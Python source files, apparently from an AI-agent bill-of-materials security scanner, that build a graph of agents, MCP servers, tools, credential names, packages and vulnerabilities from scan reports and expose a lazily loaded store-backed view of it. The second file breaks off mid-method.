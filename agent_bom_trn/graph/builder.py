"""Graph builder: scan report → UnifiedGraph, via two equivalent paths.

Reference parity: src/agent_bom/graph/builder.py:51
(build_unified_graph_from_report) — walks agents/servers/packages/tools/
credentials/vulnerabilities into nodes + typed edges. Cloud inventory,
Snowflake, and overlay sections extend this in later rounds.

Two builders, one contract:

- ``build_unified_graph_from_report`` — the original JSON-document walk,
  kept as the **differential twin** (exports and external report files
  still come in through it).
- ``build_unified_graph_from_report_objects`` — zero-serialization walk
  over the in-memory ``AIBOMReport``/``BlastRadius`` objects; the estate
  pipeline's hot path (skips findings/exposure-path rendering and the
  full ``to_json`` round-trip entirely).

A differential test asserts node/edge-set equality between the two on
the same estate; keep their walk order and semantics in lockstep.
"""

from __future__ import annotations

import gc
from contextlib import contextmanager
from typing import TYPE_CHECKING, Any

from agent_bom_trn import config
from agent_bom_trn.engine.telemetry import record_dispatch
from agent_bom_trn.obs.trace import span
from agent_bom_trn.graph.container import (
    NodeDimensions,
    UnifiedEdge,
    UnifiedGraph,
    UnifiedNode,
)
from agent_bom_trn.graph.types import EntityType, NodeStatus, RelationshipType

if TYPE_CHECKING:
    from agent_bom_trn.models import Agent, AIBOMReport

_SEV_RISK = {"critical": 9.0, "high": 7.0, "medium": 5.0, "low": 3.0}


def _node_id(entity: str, *parts: str) -> str:
    # Fast path: parts are almost always all non-empty; all() is C-speed
    # and skips the filtering listcomp on ~240k calls per 10k-agent build.
    if all(parts):
        return entity + ":" + ":".join(parts)
    return entity + ":" + ":".join([p for p in parts if p])


@contextmanager
def _gc_paused():
    """Suspend the cyclic GC across a bulk build.

    An estate build allocates millions of small objects that all survive
    (nodes, edges, id strings); letting generational collections run
    mid-walk costs ~20% of the stage for zero reclaimed garbage. No-op
    when GC is already disabled by the caller."""
    if not gc.isenabled():
        yield
        return
    gc.disable()
    try:
        yield
    finally:
        gc.enable()


def build_unified_graph_from_report(report_json: dict[str, Any]) -> UnifiedGraph:
    """Build the canonical estate graph from a report document."""
    record_dispatch("graph_build", "json")
    with span("graph_build:json") as sp, _gc_paused():
        graph = _build_from_report_json(report_json)
        sp.set("nodes", len(graph.nodes))
        sp.set("edges", len(graph.edges))
        return graph


def _build_from_report_json(report_json: dict[str, Any]) -> UnifiedGraph:
    graph = UnifiedGraph()
    graph.metadata["scan_id"] = report_json.get("scan_id", "")

    vuln_rows: dict[str, dict[str, Any]] = {}
    for row in report_json.get("blast_radius") or []:
        vuln_rows.setdefault(str(row.get("vulnerability_id")), row)

    for agent in report_json.get("agents") or []:
        agent_id = _node_id("agent", agent.get("canonical_id") or agent.get("name", ""))
        graph.add_node(
            UnifiedNode(
                id=agent_id,
                entity_type=EntityType.AGENT,
                label=str(agent.get("name") or ""),
                dimensions=NodeDimensions(agent_type=str(agent.get("agent_type") or "")),
                attributes={
                    "config_path": agent.get("config_path"),
                    "source": agent.get("source"),
                    "status": agent.get("status"),
                },
            )
        )
        for server in agent.get("mcp_servers") or []:
            server_id = _node_id("server", server.get("canonical_id") or server.get("name", ""))
            graph.add_node(
                UnifiedNode(
                    id=server_id,
                    entity_type=EntityType.SERVER,
                    label=str(server.get("name") or ""),
                    dimensions=NodeDimensions(surface=str(server.get("surface") or "")),
                    attributes={
                        "transport": server.get("transport"),
                        "auth_mode": server.get("auth_mode"),
                        "registry_id": server.get("registry_id"),
                        "security_blocked": server.get("security_blocked"),
                        # Remote-transport servers with a concrete URL are
                        # network-reachable footholds for fusion entry detection.
                        "internet_exposed": server.get("transport") in ("sse", "streamable-http")
                        and bool(server.get("url")),
                    },
                )
            )
            graph.add_edge(
                UnifiedEdge(source=agent_id, target=server_id, relationship=RelationshipType.USES)
            )
            for tool in server.get("tools") or []:
                tool_id = _node_id("tool", server.get("name", ""), tool.get("name", ""))
                graph.add_node(
                    UnifiedNode(
                        id=tool_id,
                        entity_type=EntityType.TOOL,
                        label=str(tool.get("name") or ""),
                        risk_score=float(tool.get("risk_score") or 0.0),
                        attributes={"description": tool.get("description")},
                    )
                )
                graph.add_edge(
                    UnifiedEdge(
                        source=server_id, target=tool_id, relationship=RelationshipType.PROVIDES_TOOL
                    )
                )
            for cred in server.get("credential_refs") or []:
                cred_id = _node_id("credential", server.get("name", ""), cred)
                graph.add_node(
                    UnifiedNode(
                        id=cred_id,
                        entity_type=EntityType.CREDENTIAL,
                        label=str(cred),
                        risk_score=5.0,
                    )
                )
                graph.add_edge(
                    UnifiedEdge(
                        source=server_id, target=cred_id, relationship=RelationshipType.EXPOSES_CRED
                    )
                )
                for tool in server.get("tools") or []:
                    tool_id = _node_id("tool", server.get("name", ""), tool.get("name", ""))
                    graph.add_edge(
                        UnifiedEdge(
                            source=cred_id,
                            target=tool_id,
                            relationship=RelationshipType.REACHES_TOOL,
                        )
                    )
            for pkg in server.get("packages") or []:
                pkg_id = _node_id(
                    "package", pkg.get("ecosystem", ""), pkg.get("name", ""), pkg.get("version", "")
                )
                vuln_ids = list(pkg.get("vulnerability_ids") or [])
                graph.add_node(
                    UnifiedNode(
                        id=pkg_id,
                        entity_type=EntityType.PACKAGE,
                        label=f"{pkg.get('name')}@{pkg.get('version')}",
                        status=NodeStatus.VULNERABLE if vuln_ids else NodeStatus.ACTIVE,
                        dimensions=NodeDimensions(ecosystem=str(pkg.get("ecosystem") or "")),
                        attributes={
                            "purl": pkg.get("purl"),
                            "is_direct": pkg.get("is_direct"),
                            "is_malicious": pkg.get("is_malicious"),
                        },
                    )
                )
                graph.add_edge(
                    UnifiedEdge(
                        source=server_id, target=pkg_id, relationship=RelationshipType.DEPENDS_ON
                    )
                )
                for vid in vuln_ids:
                    _add_vuln_node(graph, vid, pkg_id, vuln_rows.get(vid))

    # EXPLOITABLE_VIA edges once per vulnerability row — NOT per
    # (package, server) occurrence, which is quadratic on shared hub
    # servers (reference: builder.py:1704 _add_exploitable_via_edges).
    for vid, row in vuln_rows.items():
        _add_exploitable_via_edges(graph, vid, row)

    _add_lateral_edges(graph, report_json)
    _add_sast_nodes(graph, report_json.get("sast"))
    return graph


def _vuln_row_from_blast_radius(br: Any) -> tuple[str, dict[str, Any]]:
    """(vulnerability_id, row) mirroring _blast_radius_json_entry.

    Only the keys the graph walk consumes are materialized; the id is
    ``finding.cve_id or vuln.id`` exactly as the JSON row computes it
    (finding.py:690 — first CVE-prefixed id among (id, *aliases)).
    """
    vuln = br.vulnerability
    cve_id = next(
        (i for i in (vuln.id, *vuln.aliases) if str(i).upper().startswith("CVE-")), None
    )
    return str(cve_id or vuln.id), {
        "severity": vuln.severity.value,
        "risk_score": br.risk_score,
        "is_kev": vuln.is_kev,
        "epss_score": vuln.epss_score,
        "cvss_score": vuln.cvss_score,
        "fixed_version": vuln.fixed_version,
        "exploit_likelihood": vuln.exploit_likelihood,
        "affected_servers": [s.name for s in br.affected_servers],
        "exposed_tools": [t.name for t in br.exposed_tools],
        "exposed_credentials": br.exposed_credentials,
    }


def build_unified_graph_from_report_objects(
    report: "AIBOMReport", agents: "list[Agent] | None" = None
) -> UnifiedGraph:
    """Zero-serialization twin of :func:`build_unified_graph_from_report`.

    Walks the in-memory ``AIBOMReport`` (and optionally an explicit agent
    inventory overriding ``report.agents``) straight into a UnifiedGraph —
    no findings/exposure-path rendering, no JSON document in between. Node
    and edge sets are identical to the JSON path by construction (the
    differential test in tests/test_pipeline_smoke.py holds them equal).
    """
    record_dispatch("graph_build", "direct")
    with span("graph_build:direct") as sp, _gc_paused():
        graph = _build_from_report_objects(report, agents)
        sp.set("nodes", len(graph.nodes))
        sp.set("edges", len(graph.edges))
        return graph


def build_unified_graph_auto(
    report: "AIBOMReport",
    agents: "list[Agent] | None" = None,
    *,
    store: Any = None,
    tenant_id: str = "default",
    job_id: str | None = None,
):
    """Threshold dispatcher over the two builders (PR 16).

    Below ``GRAPH_INMEM_BUILD_AGENTS`` (or whenever no store is supplied)
    the build stays on the in-memory direct path — the r07-era 10k fast
    path this knob claws back. At or above the threshold, with a store,
    the estate is stream-built in bounded agent slices through
    ``StreamingGraphBuilder`` and returned as a ``StoreBackedUnifiedGraph``
    over the (still staged — caller commits) snapshot, so a 100k build
    never materializes the whole object graph.

    Returns ``(graph, snapshot_id_or_None)``.
    """
    agent_list = agents if agents is not None else report.agents
    if store is None or len(agent_list) < config.GRAPH_INMEM_BUILD_AGENTS:
        record_dispatch("graph_build", "inmem")
        return build_unified_graph_from_report_objects(report, agents), None

    from agent_bom_trn.graph.store_graph import StoreBackedUnifiedGraph  # noqa: PLC0415
    from agent_bom_trn.graph.stream_builder import StreamingGraphBuilder  # noqa: PLC0415

    record_dispatch("graph_build", "stream_threshold")
    builder = StreamingGraphBuilder(
        store,
        scan_id=getattr(report, "scan_id", "") or "",
        tenant_id=tenant_id,
        job_id=job_id,
        chunk_nodes=config.GRAPH_CHUNK_NODES,
    )
    builder.add_blast_radii(report.blast_radii)
    # The report is already resident, so slicing here bounds only the
    # builder's pending-chunk buffers, not the input.
    slice_agents = max(1, config.GRAPH_CHUNK_NODES // 8)
    for start in range(0, len(agent_list), slice_agents):
        builder.add_agents(agent_list[start : start + slice_agents])
    summary = builder.finalize(sast_data=getattr(report, "sast_data", None))
    graph = StoreBackedUnifiedGraph(
        store, tenant_id=tenant_id, snapshot_id=summary["snapshot_id"]
    )
    return graph, summary["snapshot_id"]


def _build_from_report_objects(
    report: "AIBOMReport", agents: "list[Agent] | None" = None
) -> UnifiedGraph:
    graph = UnifiedGraph()
    graph.metadata["scan_id"] = report.scan_id

    vuln_rows: dict[str, dict[str, Any]] = {}
    for br in report.blast_radii:
        vid, row = _vuln_row_from_blast_radius(br)
        vuln_rows.setdefault(vid, row)

    # Packages repeat across servers (a 10k-agent estate walks ~109k
    # occurrences into ~35k unique nodes). Re-adding an identical node
    # (and its vuln subtree) is a no-op merge by the container's merge
    # semantics, so a repeat occurrence whose content matches what was
    # already walked only needs its per-server DEPENDS_ON edge. Content
    # that differs between same-id occurrences falls through to the full
    # merge walk — identical to the JSON twin's behavior.
    seen_packages: dict[str, tuple] = {}

    inventory = report.agents if agents is None else agents
    for agent in inventory:
        agent_id = _node_id("agent", agent.canonical_id or agent.name or "")
        graph.add_node(
            UnifiedNode(
                id=agent_id,
                entity_type=EntityType.AGENT,
                label=str(agent.name or ""),
                dimensions=NodeDimensions(agent_type=str(agent.agent_type.value or "")),
                attributes={
                    "config_path": agent.config_path,
                    "source": agent.source,
                    "status": agent.status.value,
                },
            )
        )
        for server in agent.mcp_servers:
            server_id = _node_id("server", server.canonical_id or server.name or "")
            transport = server.transport.value
            graph.add_node(
                UnifiedNode(
                    id=server_id,
                    entity_type=EntityType.SERVER,
                    label=str(server.name or ""),
                    dimensions=NodeDimensions(surface=str(server.surface.value or "")),
                    attributes={
                        "transport": transport,
                        "auth_mode": server.auth_mode,
                        "registry_id": server.registry_id,
                        "security_blocked": server.security_blocked,
                        # Remote-transport servers with a concrete URL are
                        # network-reachable footholds for fusion entry detection.
                        "internet_exposed": transport in ("sse", "streamable-http")
                        and bool(server.url),
                    },
                )
            )
            graph.add_edge(
                UnifiedEdge(source=agent_id, target=server_id, relationship=RelationshipType.USES)
            )
            for tool in server.tools:
                tool_id = _node_id("tool", server.name or "", tool.name or "")
                graph.add_node(
                    UnifiedNode(
                        id=tool_id,
                        entity_type=EntityType.TOOL,
                        label=str(tool.name or ""),
                        risk_score=float(tool.risk_score or 0.0),
                        attributes={"description": tool.description},
                    )
                )
                graph.add_edge(
                    UnifiedEdge(
                        source=server_id, target=tool_id, relationship=RelationshipType.PROVIDES_TOOL
                    )
                )
            for cred in server.credential_names:
                cred_id = _node_id("credential", server.name or "", cred)
                graph.add_node(
                    UnifiedNode(
                        id=cred_id,
                        entity_type=EntityType.CREDENTIAL,
                        label=str(cred),
                        risk_score=5.0,
                    )
                )
                graph.add_edge(
                    UnifiedEdge(
                        source=server_id, target=cred_id, relationship=RelationshipType.EXPOSES_CRED
                    )
                )
                for tool in server.tools:
                    tool_id = _node_id("tool", server.name or "", tool.name or "")
                    graph.add_edge(
                        UnifiedEdge(
                            source=cred_id,
                            target=tool_id,
                            relationship=RelationshipType.REACHES_TOOL,
                        )
                    )
            for pkg in server.packages:
                pkg_id = _node_id(
                    "package", pkg.ecosystem or "", pkg.name or "", pkg.version or ""
                )
                vuln_ids = [v.id for v in pkg.vulnerabilities]
                content = (
                    pkg.ecosystem,
                    pkg.name,
                    pkg.version,
                    pkg.purl,
                    pkg.is_direct,
                    pkg.is_malicious,
                    tuple(vuln_ids),
                )
                if seen_packages.get(pkg_id) != content:
                    graph.add_node(
                        UnifiedNode(
                            id=pkg_id,
                            entity_type=EntityType.PACKAGE,
                            label=f"{pkg.name}@{pkg.version}",
                            status=NodeStatus.VULNERABLE if vuln_ids else NodeStatus.ACTIVE,
                            dimensions=NodeDimensions(ecosystem=str(pkg.ecosystem or "")),
                            attributes={
                                "purl": pkg.purl,
                                "is_direct": pkg.is_direct,
                                "is_malicious": pkg.is_malicious,
                            },
                        )
                    )
                    for vid in vuln_ids:
                        _add_vuln_node(graph, vid, pkg_id, vuln_rows.get(vid))
                    seen_packages[pkg_id] = content
                graph.add_edge(
                    UnifiedEdge(
                        source=server_id, target=pkg_id, relationship=RelationshipType.DEPENDS_ON
                    )
                )

    for vid, row in vuln_rows.items():
        _add_exploitable_via_edges(graph, vid, row)

    _add_lateral_edges_from_objects(graph, inventory)
    _add_sast_nodes(graph, report.sast_data)
    return graph


# Caps for per-vuln EXPLOITABLE_VIA fan-out: exposure-path projections use
# ≤3 hops of each kind; 20 keeps graph queries informative on hub estates
# without quadratic edge blowup.
_MAX_EXPLOITABLE_VIA_TOOLS = 20
_MAX_EXPLOITABLE_VIA_CREDS = 20


def _add_vuln_node(
    graph: UnifiedGraph,
    vuln_id: str,
    pkg_id: str,
    row: dict[str, Any] | None,
) -> None:
    """Vulnerability node + VULNERABLE_TO edge (reference: builder.py:1760)."""
    nid = _node_id("vuln", vuln_id)
    severity = str((row or {}).get("severity") or "unknown")
    risk = float((row or {}).get("risk_score") or _SEV_RISK.get(severity, 1.0))
    graph.add_node(
        UnifiedNode(
            id=nid,
            entity_type=EntityType.VULNERABILITY,
            label=vuln_id,
            severity=severity,
            risk_score=risk,
            status=NodeStatus.ACTIVE,
            attributes={
                "is_kev": (row or {}).get("is_kev"),
                "epss_score": (row or {}).get("epss_score"),
                "cvss_score": (row or {}).get("cvss_score"),
                "fixed_version": (row or {}).get("fixed_version"),
                "exploit_likelihood": (row or {}).get("exploit_likelihood"),
            },
        )
    )
    graph.add_edge(
        UnifiedEdge(
            source=pkg_id,
            target=nid,
            relationship=RelationshipType.VULNERABLE_TO,
            weight=min(risk, 10.0),
        )
    )


def _add_exploitable_via_edges(graph: UnifiedGraph, vuln_id: str, row: dict[str, Any]) -> None:
    """vuln → tool/credential edges, once per vulnerability row, capped
    (reference: builder.py:1704 _add_exploitable_via_edges)."""
    nid = _node_id("vuln", vuln_id)
    if nid not in graph.nodes:
        return
    servers = row.get("affected_servers") or []
    added_tools = 0
    for tool_name in row.get("exposed_tools") or []:
        if added_tools >= _MAX_EXPLOITABLE_VIA_TOOLS:
            break
        for server_name in servers[:3]:
            tool_id = _node_id("tool", server_name, tool_name)
            if tool_id in graph.nodes:
                graph.add_edge(
                    UnifiedEdge(
                        source=nid, target=tool_id, relationship=RelationshipType.EXPLOITABLE_VIA
                    )
                )
                added_tools += 1
                break
    added_creds = 0
    for cred in row.get("exposed_credentials") or []:
        if added_creds >= _MAX_EXPLOITABLE_VIA_CREDS:
            break
        # Same-named credential nodes exist per server — link each one (a
        # vuln is exploitable via EVERY affected server's credential copy).
        for server_name in servers:
            if added_creds >= _MAX_EXPLOITABLE_VIA_CREDS:
                break
            cred_id = _node_id("credential", server_name, cred)
            if cred_id in graph.nodes:
                graph.add_edge(
                    UnifiedEdge(
                        source=nid, target=cred_id, relationship=RelationshipType.EXPLOITABLE_VIA
                    )
                )
                added_creds += 1


def _sast_file_node(
    graph: UnifiedGraph,
    server_key: str,
    server_id: str,
    source_root: str,
    path: str,
) -> str:
    """SOURCE_FILE node (+ server CONTAINS edge) — idempotent, returns id."""
    file_id = _node_id("source_file", server_key, path)
    if file_id not in graph.nodes:
        graph.add_node(
            UnifiedNode(
                id=file_id,
                entity_type=EntityType.SOURCE_FILE,
                label=path,
                attributes={"server": server_key, "source_root": source_root},
            )
        )
        if server_id in graph.nodes:
            graph.add_edge(
                UnifiedEdge(
                    source=server_id,
                    target=file_id,
                    relationship=RelationshipType.CONTAINS,
                )
            )
    return file_id


def _add_sast_nodes(graph: UnifiedGraph, sast_data: dict[str, Any] | None) -> None:
    """SOURCE_FILE + finding nodes + CALLS edges from ``report.sast_data``.

    Shared by both builders (the JSON twin reads the report's ``sast``
    key, the object twin reads ``report.sast_data`` — same payload by
    construction, so differential equality holds). Each per-server SAST
    finding anchors to a ``source_file:<server>:<path>`` node hung off
    the server via CONTAINS; CONTAINS is in the reach edge set, so the
    batched reach pipeline fans agents out to these nodes for free.
    File-level ``call_edges`` from the interprocedural engine become
    CALLS edges between SOURCE_FILE nodes — also in the reach edge set,
    so a finding deep in a callee is reachable through its callers.
    """
    if not sast_data:
        return
    for server_key, result in (sast_data.get("per_server") or {}).items():
        server_id = _node_id("server", str(server_key))
        source_root = str(result.get("source_root") or "")
        # Config-minted CREDENTIAL nodes are keyed on the server NAME;
        # use it so a code-level cred:<X> flow and a config credential
        # ref <X> converge on ONE node (server_name carried by
        # scan_agents_sast; server_key is the canonical-id fallback).
        cred_server = str(result.get("server_name") or server_key)
        seen_cred_edges: set[tuple[str, str]] = set()
        for edge in result.get("call_edges") or []:
            if not isinstance(edge, (list, tuple)) or len(edge) != 2:
                continue
            caller_id = _sast_file_node(
                graph, str(server_key), server_id, source_root, str(edge[0])
            )
            callee_id = _sast_file_node(
                graph, str(server_key), server_id, source_root, str(edge[1])
            )
            graph.add_edge(
                UnifiedEdge(
                    source=caller_id,
                    target=callee_id,
                    relationship=RelationshipType.CALLS,
                )
            )
        for raw in result.get("findings") or []:
            path = str(raw.get("file") or "")
            file_id = _sast_file_node(graph, str(server_key), server_id, source_root, path)
            severity = str(raw.get("severity") or "unknown")
            finding_id = _node_id(
                "vuln", "sast", str(raw.get("rule") or ""), path, str(raw.get("line") or "")
            )
            graph.add_node(
                UnifiedNode(
                    id=finding_id,
                    entity_type=EntityType.VULNERABILITY,
                    label=f"{raw.get('rule')}@{path}:{raw.get('line')}",
                    severity=severity,
                    risk_score=_SEV_RISK.get(severity, 1.0),
                    status=NodeStatus.ACTIVE,
                    attributes={
                        "rule": raw.get("rule"),
                        "cwe": raw.get("cwe"),
                        "line": raw.get("line"),
                        "tainted": bool(raw.get("tainted")),
                        "taint_path": list(raw.get("taint_path") or []),
                        "call_chains": list(raw.get("call_chains") or []),
                    },
                )
            )
            graph.add_edge(
                UnifiedEdge(
                    source=file_id,
                    target=finding_id,
                    relationship=RelationshipType.VULNERABLE_TO,
                    weight=min(_SEV_RISK.get(severity, 1.0), 10.0),
                )
            )
            for cred in raw.get("credentials") or []:
                cred_id = _node_id("credential", cred_server, str(cred))
                if cred_id not in graph.nodes:
                    graph.add_node(
                        UnifiedNode(
                            id=cred_id,
                            entity_type=EntityType.CREDENTIAL,
                            label=str(cred),
                            risk_score=5.0,
                        )
                    )
                if (file_id, cred_id) in seen_cred_edges:
                    continue
                seen_cred_edges.add((file_id, cred_id))
                graph.add_edge(
                    UnifiedEdge(
                        source=file_id,
                        target=cred_id,
                        relationship=RelationshipType.EXPOSES_CRED,
                    )
                )


# Pairwise SHARES_SERVER only below this group size; larger groups would be
# quadratic (a 5k-agent hub ⇒ 12.5M edges). Beyond it, lateral reachability
# already flows through the shared server node's USES edges — the reference
# models the same via "agent ↔ shared-server hub" (graph/types.py:139).
_MAX_PAIRWISE_SHARED_AGENTS = 8


def _add_lateral_edges(graph: UnifiedGraph, report_json: dict[str, Any]) -> None:
    """SHARES_SERVER edges between agents attached to the same server."""
    server_agents: dict[str, list[str]] = {}
    for agent in report_json.get("agents") or []:
        agent_id = _node_id("agent", agent.get("canonical_id") or agent.get("name", ""))
        for server in agent.get("mcp_servers") or []:
            server_id = _node_id("server", server.get("canonical_id") or server.get("name", ""))
            bucket = server_agents.setdefault(server_id, [])
            if agent_id not in bucket:
                bucket.append(agent_id)
    _emit_lateral_edges(graph, server_agents)


def _add_lateral_edges_from_objects(graph: UnifiedGraph, agents: "list[Agent]") -> None:
    """Object-walk twin of :func:`_add_lateral_edges`."""
    server_agents: dict[str, list[str]] = {}
    for agent in agents:
        agent_id = _node_id("agent", agent.canonical_id or agent.name or "")
        for server in agent.mcp_servers:
            server_id = _node_id("server", server.canonical_id or server.name or "")
            bucket = server_agents.setdefault(server_id, [])
            if agent_id not in bucket:
                bucket.append(agent_id)
    _emit_lateral_edges(graph, server_agents)


def _emit_lateral_edges(graph: UnifiedGraph, server_agents: dict[str, list[str]]) -> None:
    for server_id, agent_ids in server_agents.items():
        if len(agent_ids) < 2 or len(agent_ids) > _MAX_PAIRWISE_SHARED_AGENTS:
            # Large groups: the shared server node itself is the lateral hub.
            if len(agent_ids) > _MAX_PAIRWISE_SHARED_AGENTS and server_id in graph.nodes:
                graph.nodes[server_id].attributes["lateral_hub_agent_count"] = len(agent_ids)
            continue
        for i, a in enumerate(agent_ids):
            for b in agent_ids[i + 1 :]:
                graph.add_edge(
                    UnifiedEdge(
                        source=a,
                        target=b,
                        relationship=RelationshipType.SHARES_SERVER,
                        direction="bidirectional",
                        evidence={"server": server_id},
                    )
                )
