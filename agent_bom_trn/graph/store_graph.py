"""StoreBackedUnifiedGraph — lazy out-of-core view over a graph store (PR 15).

Exposes the adjacency/reach surface that fusion (`attack_path_fusion`),
reach (`dependency_reach`), rollup and the admin routes consume —
``compiled``, ``nodes`` (mapping), ``edges`` (sequence), ``adjacency``,
the batched traversal generators, and the PR-15 iteration protocol —
without ever loading the estate's node/edge documents into RAM at once:

- the compiled view is built from two metadata-only keyset scans
  (``iter_node_meta`` / ``iter_edge_meta``), no document parse;
- ``nodes`` hydrates documents on demand in fixed-size chunks of the
  node_id-sorted keyspace, held in a byte-budgeted LRU
  (``AGENT_BOM_GRAPH_CACHE_MB``; hits/misses/evictions surface as
  ``graph_cache:*`` engine-telemetry counters);
- ``adjacency.get(nid)`` fetches the touching edges per node;
- ``values()``/``iter_nodes()``/``iter_edges()`` stream straight off
  the store's keyset iterators, bypassing (not polluting) the cache.

Node ordering in the compiled view is node_id-sorted (the store's
iteration order) rather than the in-RAM builder's insertion order; the
capped reach lists and every aggregate are order-independent, which the
differential suite in tests/test_out_of_core.py asserts.

Traversal methods are shared with ``UnifiedGraph`` by direct function
reuse — they only touch ``self.compiled``, so both representations run
the same code through the engine dispatch ladder.
"""

from __future__ import annotations

import json
from collections import OrderedDict
from typing import Any, Iterable, Iterator

import numpy as np

from agent_bom_trn import config
from agent_bom_trn.engine.telemetry import record_dispatch
from agent_bom_trn.graph.container import (
    AttackPath,
    Campaign,
    CompiledView,
    UnifiedEdge,
    UnifiedGraph,
    UnifiedNode,
    edge_from_doc,
    node_from_doc,
)
from agent_bom_trn.graph.types import (
    ENTITY_CODES,
    RELATIONSHIP_CODES,
    EntityType,
    RelationshipType,
)

_ENTITY_CODE_BY_VALUE = {et.value: code for et, code in ENTITY_CODES.items()}
_REL_CODE_BY_VALUE = {rt.value: code for rt, code in RELATIONSHIP_CODES.items()}
_BIDI_VALUES = ("bidirectional", "both")


def compile_from_store(store: Any, snapshot_id: int) -> CompiledView:
    """Build a CompiledView from the store's metadata scans only.

    Nodes come back node_id-sorted; edge rows follow edge_id order with
    ``edge_row_to_edge`` carrying the ordinal of that enumeration (the
    index ``StoreBackedUnifiedGraph.edges[...]`` resolves). Reuses the
    CompiledView class itself so ``edge_view``/``rows_for_relationships``
    memoization is literally the same code as the in-RAM path.
    """
    node_ids: list[str] = []
    entity: list[int] = []
    for nid, etype, _sev, _risk in store.iter_node_meta(snapshot_id):
        code = _ENTITY_CODE_BY_VALUE.get(etype)
        if code is None:
            continue
        node_ids.append(nid)
        entity.append(code)
    node_index = {nid: i for i, nid in enumerate(node_ids)}
    src: list[int] = []
    dst: list[int] = []
    rel: list[int] = []
    row_map: list[int] = []
    for ordinal, (_eid, source, target, relationship, direction, traversable) in enumerate(
        store.iter_edge_meta(snapshot_id)
    ):
        if not traversable:
            continue
        si = node_index.get(source)
        ti = node_index.get(target)
        code = _REL_CODE_BY_VALUE.get(relationship)
        if si is None or ti is None or code is None:
            continue
        src.append(si)
        dst.append(ti)
        rel.append(code)
        row_map.append(ordinal)
        if direction in _BIDI_VALUES:
            src.append(ti)
            dst.append(si)
            rel.append(code)
            row_map.append(ordinal)
    cv = CompiledView.__new__(CompiledView)
    cv.node_ids = node_ids
    cv.node_index = node_index
    cv.n_nodes = len(node_ids)
    cv.src = np.asarray(src, dtype=np.int32)
    cv.dst = np.asarray(dst, dtype=np.int32)
    cv.rel = np.asarray(rel, dtype=np.int32)
    cv.edge_row_to_edge = np.asarray(row_map, dtype=np.int32)
    cv.entity = np.asarray(entity, dtype=np.int32)
    cv._edge_views = {}
    return cv


class _ChunkCachedNodeMap:
    """dict-of-nodes facade: on-demand hydration of node_id-sorted
    keyspace chunks under a byte-budgeted LRU."""

    def __init__(
        self,
        store: Any,
        snapshot_id: int,
        node_ids: list[str],
        node_index: dict[str, int],
        chunk_nodes: int,
        cache_bytes: float,
    ) -> None:
        self._store = store
        self._snapshot_id = snapshot_id
        self._node_ids = node_ids
        self._node_index = node_index
        self._chunk_nodes = max(1, int(chunk_nodes))
        self._cache_bytes = float(cache_bytes)
        self._chunks: OrderedDict[int, tuple[dict[str, UnifiedNode], int]] = OrderedDict()
        self._held_bytes = 0

    def __len__(self) -> int:
        return len(self._node_ids)

    def __bool__(self) -> bool:
        return bool(self._node_ids)

    def __contains__(self, node_id: object) -> bool:
        return node_id in self._node_index

    def __iter__(self) -> Iterator[str]:
        return iter(self._node_ids)

    def keys(self) -> Iterable[str]:
        return self._node_ids

    def _chunk_for(self, idx: int) -> dict[str, UnifiedNode]:
        cidx = idx // self._chunk_nodes
        cached = self._chunks.get(cidx)
        if cached is not None:
            self._chunks.move_to_end(cidx)
            record_dispatch("graph_cache", "hit")
            return cached[0]
        record_dispatch("graph_cache", "miss")
        lo = cidx * self._chunk_nodes
        hi = min(lo + self._chunk_nodes, len(self._node_ids)) - 1
        rows = self._store.fetch_node_range(
            self._snapshot_id, self._node_ids[lo], self._node_ids[hi]
        )
        nodes: dict[str, UnifiedNode] = {}
        nbytes = 0
        for nid, doc in rows:
            node = node_from_doc(doc)
            if node is None:
                continue
            nodes[nid] = node
            # Budget on serialized size — a stable proxy for the hydrated
            # object footprint that needs no deep introspection.
            nbytes += len(nid) + len(json.dumps(doc, default=str))
        self._chunks[cidx] = (nodes, nbytes)
        self._held_bytes += nbytes
        while self._held_bytes > self._cache_bytes and len(self._chunks) > 1:
            _, (_, evicted_bytes) = self._chunks.popitem(last=False)
            self._held_bytes -= evicted_bytes
            record_dispatch("graph_cache", "evict")
        return nodes

    def get(self, node_id: str, default: Any = None) -> UnifiedNode | Any:
        idx = self._node_index.get(node_id)
        if idx is None:
            return default
        return self._chunk_for(idx).get(node_id, default)

    def __getitem__(self, node_id: str) -> UnifiedNode:
        node = self.get(node_id)
        if node is None:
            raise KeyError(node_id)
        return node

    def values(self) -> Iterator[UnifiedNode]:
        """Stream every node off the store — one pass, no cache churn."""
        for doc in self._store.iter_nodes(self._snapshot_id):
            node = node_from_doc(doc)
            if node is not None:
                yield node

    def bulk(self, node_ids: Iterable[str]) -> dict[str, UnifiedNode]:
        """Hydrate an explicit id list in one batched store query,
        bypassing the chunk cache entirely.

        Random-access bursts (fusion label lookups, gain-boost gathers)
        are poison for the sorted-keyspace chunk cache: every miss
        faults in and decodes a whole chunk to serve one id, and a
        scattered id set evicts as fast as it fills. ``fetch_node_docs``
        decodes exactly the requested rows instead; missing ids are
        simply absent from the result."""
        out: dict[str, UnifiedNode] = {}
        for nid, doc in self._store.fetch_node_docs(
            self._snapshot_id, node_ids
        ).items():
            node = node_from_doc(doc)
            if node is not None:
                out[nid] = node
        return out

    def items(self) -> Iterator[tuple[str, UnifiedNode]]:
        for node in self.values():
            yield node.id, node

    @property
    def cache_stats(self) -> dict[str, int]:
        return {"chunks": len(self._chunks), "bytes": self._held_bytes}


class _LazyEdgeSeq:
    """edge-list facade: ``len``, rare point lookups by compiled-view
    ordinal, and streaming iteration."""

    def __init__(self, store: Any, snapshot_id: int, edge_count: int) -> None:
        self._store = store
        self._snapshot_id = snapshot_id
        self._count = int(edge_count)

    def __len__(self) -> int:
        return self._count

    def __getitem__(self, ordinal: int) -> UnifiedEdge:
        doc = self._store.edge_doc_at(self._snapshot_id, int(ordinal))
        edge = edge_from_doc(doc) if doc else None
        if edge is None:
            raise IndexError(ordinal)
        return edge

    def __iter__(self) -> Iterator[UnifiedEdge]:
        for doc in self._store.iter_edges(self._snapshot_id):
            edge = edge_from_doc(doc)
            if edge is not None:
                yield edge


class _AdjacencyView:
    """``adjacency.get(nid, [])`` facade over per-node edge fetches.

    Matches the in-RAM contract: out-edges plus bidirectional in-edges.
    A small entry-capped LRU absorbs the repeated hops of path labeling.
    """

    _MAX_ENTRIES = 512

    def __init__(self, store: Any, snapshot_id: int) -> None:
        self._store = store
        self._snapshot_id = snapshot_id
        self._cache: OrderedDict[str, list[UnifiedEdge]] = OrderedDict()

    def get(self, node_id: str, default: Any = None) -> list[UnifiedEdge] | Any:
        cached = self._cache.get(node_id)
        if cached is not None:
            self._cache.move_to_end(node_id)
            return cached
        out_docs, in_docs = self._store.fetch_edges_touching(self._snapshot_id, node_id)
